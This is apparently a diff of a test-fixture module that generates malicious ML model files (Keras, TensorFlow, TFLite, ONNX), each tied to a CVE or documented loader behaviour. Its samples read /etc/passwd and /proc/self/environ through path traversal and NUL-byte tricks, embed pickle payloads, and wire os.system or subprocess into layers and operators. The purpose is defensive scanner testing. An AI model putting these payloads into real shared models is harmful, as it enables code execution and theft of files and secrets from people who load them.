@@ -1,5 +1,7 @@
 """Models as graphs: Keras, TensorFlow, TFLite, ONNX and what their readers follow, import or run."""
 
+# ruff: noqa: E501 - one technique a line, however long; paths in payloads that nothing runs
+
 import base64
 import json
 import struct
@@ -7,8 +9,6 @@ from pathlib import Path
 from typing import Any
 
 from .kit import EVIL, MARK, field, technique, zipped
-
-# Keras ----------------------------------------------------------------------------------------------------------------
 
 
 def _keras(config: dict[str, Any], **members: bytes) -> bytes:
@@ -46,43 +46,9 @@ def safe_mode_switched_off():
     return _keras(_model(off))
 
 
-@technique("CVE-2025-8747, Keras: keras.utils.get_file as a function of the model", "class name", "m.keras")
-def download_by_get_file():
-    return _keras(_model(_layer("Dense", {"units": 1, "activation": _function("keras.utils", "get_file")})))
-
-
-@technique("CVE-2025-49655, Keras: TorchModuleWrapper holds a pickle of torch", "class name", "m.keras")
-def torch_module_wrapped():
-    inner = base64.b64encode(EVIL).decode()
-    return _keras(_model(_layer("TorchModuleWrapper", {"module": inner})))
-
-
-@technique("CVE-2025-12058, Keras: the vocabulary of StringLookup is a path or an address", "path", "m.keras")
-def vocabulary_of_a_path():
-    return _keras(_model(_layer("StringLookup", {"vocabulary": "/etc/passwd", "max_tokens": None})))
-
-
 @technique("CVE-2025-12058, Keras: the vocabulary of StringLookup is a path or an address", "path", "m.keras")
 def vocabulary_of_an_address():
     return _keras(_model(_layer("TextVectorization", {"vocabulary": "http://localhost/v.txt"})))
-
-
-@technique("Keras documentation, TFSMLayer: loads a SavedModel from a path", "class name", "m.keras")
-def layer_of_a_saved_model():
-    return _keras(_model(_layer("TFSMLayer", {"filepath": "/tmp/evil", "call_endpoint": "serve"})))
-
-
-@technique("Keras documentation, JaxLayer: call_fn and init_fn are functions", "class name", "m.keras")
-def layer_of_jax():
-    return _keras(_model(_layer("JaxLayer", {"call_fn": _function("os", "system"), "init_fn": None})))
-
-
-@technique(
-    "Keras, serialization_lib.py: compile_config is deserialised like the rest", "class name", "m.keras"
-)
-def loss_of_another_module():
-    compiled = {"optimizer": "adam", "loss": _function("subprocess", "getoutput"), "metrics": None}
-    return _keras(_model(_layer("Dense", {"units": 1}), compile_config=compiled))
 
 
 @technique("Keras, serialization_lib.py: build_config is given to the class", "class name", "m.keras")
@@ -98,18 +64,6 @@ def lambda_in_an_initializer():
     code = base64.b64encode(b"\xe3" + b"\0" * 20).decode()
     init = {"class_name": "__lambda__", "config": {"value": code}}
     return _keras(_model(_layer("Dense", {"units": 1, "kernel_initializer": init})))
-
-
-@technique("Keras: a Lambda deep within wrappers", "class name", "m.keras")
-def lambda_in_wrappers():
-    inner = _layer("Lambda", {"function": ["4wAAAAA=", None, None], "function_type": "lambda"})
-    return _keras(_model(_layer("TimeDistributed", {"layer": _layer("Bidirectional", {"layer": inner})})))
-
-
-@technique("Keras: a class registered under a name of the user's package", "class name", "m.keras")
-def registered_custom_class():
-    layer = {"module": None, "class_name": "Evil", "config": {}, "registered_name": "evil_package>Evil"}
-    return _keras(_model(layer))
 
 
 @technique(
@@ -134,11 +88,6 @@ def keras_with_a_pickle_beside():
     return _keras(_model(_layer("Dense", {"units": 1})), **{"assets/layers/tok.pkl": EVIL})
 
 
-@technique("Keras, architecture as JSON beside the weights", "class name")
-def keras_json_alone():
-    return {"model.json": json.dumps(_model(_layer("Lambda", {"function": ["4w==", None, None]}))).encode()}
-
-
 @technique("TensorFlow.js, model.json: the topology is a Keras config and its weights are paths", "path")
 def tfjs_weights_elsewhere():
     manifest = [
@@ -153,9 +102,6 @@ def tfjs_weights_elsewhere():
             }
         ).encode()
     }
-
-
-# TensorFlow -----------------------------------------------------------------------------------------------------------
 
 
 def _node(name: str, operator: str, **attributes: str) -> bytes:
@@ -173,20 +119,11 @@ def _saved(graph: bytes, *more: bytes) -> dict[str, bytes]:
 _TF = "TensorFlow security policy, SECURITY.md: models are programs; ops that touch files"
 
 for _op in (
-    "ReadFile",
-    "WriteFile",
-    "MatchingFiles",
-    "EagerPyFunc",
-    "ImmutableConst",
-    "PrintV2",
-    "DebugIdentityV2",
     "SaveSlices",
     "CreateSummaryFileWriter",
     "LMDBReader",
     "FixedLengthRecordDatasetV2",
-    "RaggedTensorFromVariantEvil",
     "XlaCustomCallV2",
-    "ComposeZzz>Custom",
 ):
 
     def _one(op: str = _op) -> dict[str, bytes]:
@@ -194,12 +131,6 @@ for _op in (
 
     _one.__name__ = "tf_op_" + "".join(c.lower() if c.isalnum() else "_" for c in _op)
     technique(_TF, "operator")(_one)
-
-
-@technique(_TF + ": in a function of the library", "operator")
-def tf_op_in_a_function():
-    function = field(1, field(1, "f")) + field(3, _node("n", "PyFuncStateless", token="pyfunc_0"))
-    return _saved(field(1, _node("p", "Placeholder")) + field(2, field(1, function)))
 
 
 @technique(_TF + ": protobuf merges a message that is written twice", "operator")
@@ -213,12 +144,6 @@ def tf_table_from_a_file():
         field(1, _node("n", "InitializeTableFromTextFileV2"))
         + field(1, _node("c", "Const", value="/etc/passwd"))
     )
-
-
-@technique("TensorFlow, meta_graph.proto: an asset is a file name below assets", "path")
-def tf_asset_elsewhere():
-    asset = field(6, field(1, field(1, "a:0")) + field(2, "../../../../etc/passwd"))
-    return _saved(field(1, _node("p", "Placeholder")), asset)
 
 
 @technique("TensorFlow 1: a frozen graph without a SavedModel around it", "operator", "frozen.pb")
@@ -305,9 +230,6 @@ def tflite_with_files_behind():
     return _tflite(None, 0, zipped({"labels.txt": EVIL}))
 
 
-# ONNX -----------------------------------------------------------------------------------------------------------------
-
-
 def _onnx(nodes: list[Any] | None = None, tensor: dict[str, str] | None = None, **more: Any) -> bytes:
     import onnx
     from onnx import TensorProto, helper
@@ -332,13 +254,9 @@ def _onnx(nodes: list[Any] | None = None, tensor: dict[str, str] | None = None, 
 _EXT = "CVE-2022-25882, CVE-2024-27318, CVE-2026-27489, ONNX: where external data may lie"
 
 for _name, _place in {
-    "onnx_data_absolute": "/etc/passwd",
-    "onnx_data_up_from_the_middle": "a/../../etc/passwd",
-    "onnx_data_on_a_drive": "C:\\Windows\\win.ini",
     "onnx_data_on_a_share": "\\\\localhost\\share\\x",
     "onnx_data_at_an_address": "file:///etc/passwd",
     "onnx_data_after_a_nul": "w.bin\0/../../etc/passwd",
-    "onnx_data_with_backslashes": "..\\..\\etc\\passwd",
     "onnx_data_in_proc": "/proc/self/environ",
 }.items():
 
@@ -355,7 +273,7 @@ def onnx_data_by_a_linked_folder():
         (root / "model.onnx").write_bytes(_onnx(tensor={"location": "d/passwd", "length": "4"}))
         (root / "d").symlink_to("/etc")
 
-    return lambda root: write(root)
+    return write
 
 
 @technique("CVE-2026-34445, ONNX: keys of external data were set as attributes of an object", "path")
@@ -372,84 +290,12 @@ def onnx_data_beyond_the_file():
     }
 
 
-@technique("ONNX: a tensor attribute of a node has external data, too", "path")
-def onnx_data_of_a_constant():
-    from onnx import TensorProto, helper
-
-    t = TensorProto(name="t", data_type=TensorProto.FLOAT, dims=[1], data_location=TensorProto.EXTERNAL)
-    t.external_data.add(key="location", value="../../etc/passwd")
-    return {"model.onnx": _onnx([helper.make_node("Constant", [], ["y"], value=t)])}
-
-
-@technique("ONNX Runtime, EPContext design: a binary of the execution provider, by path", "path")
-def onnx_context_of_a_provider():
-    from onnx import helper
-
-    node = helper.make_node(
-        "EPContext",
-        ["x"],
-        ["y"],
-        domain="com.microsoft",
-        embed_mode=0,
-        ep_cache_context="../../evil.bin",
-        main_context=1,
-    )
-    return {"model.onnx": _onnx([node], domains=["com.microsoft"])}
-
-
-@technique("ONNX Runtime extensions: PyOp runs Python", "operator", "m.onnx")
-def onnx_python_operator():
-    from onnx import helper
-
-    return _onnx(
-        [helper.make_node("PyCustomOp", ["x"], ["y"], domain="ai.onnx.contrib")], domains=["ai.onnx.contrib"]
-    )
-
-
-@technique("ONNX Runtime training: PythonOp of com.microsoft", "operator", "m.onnx")
-def onnx_python_operator_of_microsoft():
-    from onnx import helper
-
-    node = helper.make_node("PythonOp", ["x"], ["y"], domain="com.microsoft", func_name="os.system")
-    return _onnx([node], domains=["com.microsoft"])
-
-
-@technique("ONNX: a custom operator in a branch", "operator", "m.onnx")
-def onnx_custom_operator_in_a_branch():
-    from onnx import TensorProto, helper
-
-    out = helper.make_tensor_value_info("b", TensorProto.FLOAT, [1])
-    branch = helper.make_graph([helper.make_node("Run", [], ["b"], domain="evil")], "b", [], [out])
-    node = helper.make_node("If", ["x"], ["y"], then_branch=branch, else_branch=branch)
-    return _onnx([node], domains=["evil"])
-
-
-@technique("ONNX: a custom operator in a function of the model", "operator", "m.onnx")
-def onnx_custom_operator_in_a_function():
-    from onnx import helper
-
-    body = [helper.make_node("Run", ["a"], ["b"], domain="evil")]
-    function = helper.make_function("f", "Step", ["a"], ["b"], body, [helper.make_opsetid("evil", 1)])
-    return _onnx([helper.make_node("Step", ["x"], ["y"], domain="f")], functions=[function], domains=["f"])
-
-
 @technique("Protocol Buffers, encoding: messages that are concatenated are merged", "operator", "m.onnx")
 def onnx_second_model_behind():
     from onnx import helper
 
     evil = _onnx([helper.make_node("Run", ["x"], ["y"], domain="evil")], domains=["evil"])
     return _onnx() + evil
-
-
-@technique("ONNX, IR: training_info holds graphs, too", "operator", "m.onnx")
-def onnx_custom_operator_in_training():
-    import onnx
-    from onnx import helper
-
-    model = onnx.load_model_from_string(_onnx())
-    graph = helper.make_graph([helper.make_node("Run", [], ["z"], domain="evil")], "t", [], [])
-    model.training_info.add().algorithm.CopyFrom(graph)
-    return model.SerializeToString()
 
 
 @technique("ONNX: models as text are read by onnx.load, too", "path")
